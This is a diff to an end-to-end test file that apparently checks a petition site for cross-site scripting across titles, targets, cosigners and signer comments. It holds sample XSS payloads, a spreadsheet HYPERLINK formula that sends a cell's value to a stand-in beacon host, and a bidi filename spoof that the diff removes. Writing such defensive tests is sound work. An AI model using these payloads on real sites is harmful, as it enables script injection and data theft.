@@ -20,13 +20,22 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { linksIn, waitForMail } from '../support/mailbox.ts';
 import { signLikeBrowser } from '../support/signer.ts';
 import { BEACON, HOSTILE_MARKDOWN, HTML_PAYLOADS, XSS_FLAG } from '../support/injection-payloads.ts';
+import { isStorableText } from '#domain/text-schema.ts';
 import { DESKTOP, PHONE, apiCount, signInOrganiser, startBrowserStack, type BrowserStack } from './support.ts';
 
 const SLUG = 'xss-every-field';
+/**
+ * The payloads a campaign can hold: bidi overrides are refused in every stored string (the one rule
+ * for stored text, #domain/text-schema.ts; test/integration/well-formed-text.test.ts), so they are
+ * left out of what this test stores.
+ */
+const STORABLE = HTML_PAYLOADS.filter((payload) => isStorableText(payload));
+const storable = (markdown: string) => markdown.replace(/[\u202a-\u202e\u2066-\u2069]/g, '');
 /** 200 characters at most, like any title. */
-const TITLE = `<script>window.__xss=1</script><img src=x onerror=window.__xss=1>"'></title><svg onload=window.__xss=1> &lt;b&gt; Pay \u202Eexe.gnp\u202C`;
+const TITLE = `<script>window.__xss=1</script><img src=x onerror=window.__xss=1>"'></title><svg onload=window.__xss=1> &lt;b&gt; Pay exe.gnp`;
+const TEXT = storable(HOSTILE_MARKDOWN);
 /** Twenty addressees (the most a campaign has), each name and office a payload. */
-const TARGETS = HTML_PAYLOADS.slice(0, 20).map((name, i) => ({ name, office: HTML_PAYLOADS[(i + 7) % HTML_PAYLOADS.length]! }));
+const TARGETS = STORABLE.slice(0, 20).map((name, i) => ({ name, office: STORABLE[(i + 7) % STORABLE.length]! }));
 /** Organisation names may not hold < or > (or control and bidi characters); the rest is theirs. */
 const COSIGNERS = [
   { name: `Watch "'&amp; &lt;script&gt; ' onmouseover='window.__xss=1`, website: `https://${BEACON}.example/"><script>window.__xss=1</script>` },
@@ -36,7 +45,7 @@ const COSIGNERS = [
 const SIGNERS = [
   { name: "D'Arc-'Joan O’Brien", comment: HTML_PAYLOADS[0]! },
   { name: "'.'-Ann Lee", comment: '=HYPERLINK("https://xss-beacon.example/?"&A1,"click")' },
-  { name: 'Nino Beridze', comment: HOSTILE_MARKDOWN.slice(0, 1000) },
+  { name: 'Nino Beridze', comment: TEXT.slice(0, 1000) },
 ];
 
 let bs: BrowserStack;
@@ -152,7 +161,7 @@ beforeAll(async () => {
     slug: SLUG,
     kind: 'petition',
     title: TITLE,
-    text: HOSTILE_MARKDOWN,
+    text: TEXT,
     targets: TARGETS,
     goal: 100,
     publicSigners: true,
@@ -214,7 +223,7 @@ describe('the public page', () => {
     // The campaign text: markdown formatting, every raw-HTML payload shown as its characters.
     const text = page.locator('.petition-text');
     const shown = (await text.textContent())!;
-    for (const payload of HTML_PAYLOADS.filter((p) => !p.includes('&'))) expect(shown).toContain(payload);
+    for (const payload of STORABLE.filter((p) => !p.includes('&'))) expect(shown).toContain(payload);
     expect(await text.locator('h2').first().textContent()).toBe('<script>window.__xss=1</script> heading');
     // Entities are markdown's: they show as the characters they name, still as text.
     expect(shown).toContain('<script>window.__xss=1</script> & <b> "');
@@ -305,7 +314,7 @@ describe('the organisers’ pages', () => {
     await page.locator('#campaign-text').waitFor();
     await page.waitForTimeout(300);
     expect(await findings(page)).toEqual([]);
-    expect(await page.locator('#campaign-text').inputValue()).toBe(HOSTILE_MARKDOWN);
+    expect(await page.locator('#campaign-text').inputValue()).toBe(TEXT);
     expect(await page.locator('#campaign-title').inputValue()).toBe(TITLE);
     expect(dialogs).toEqual([]);
     expect(strayRequests()).toEqual([]);
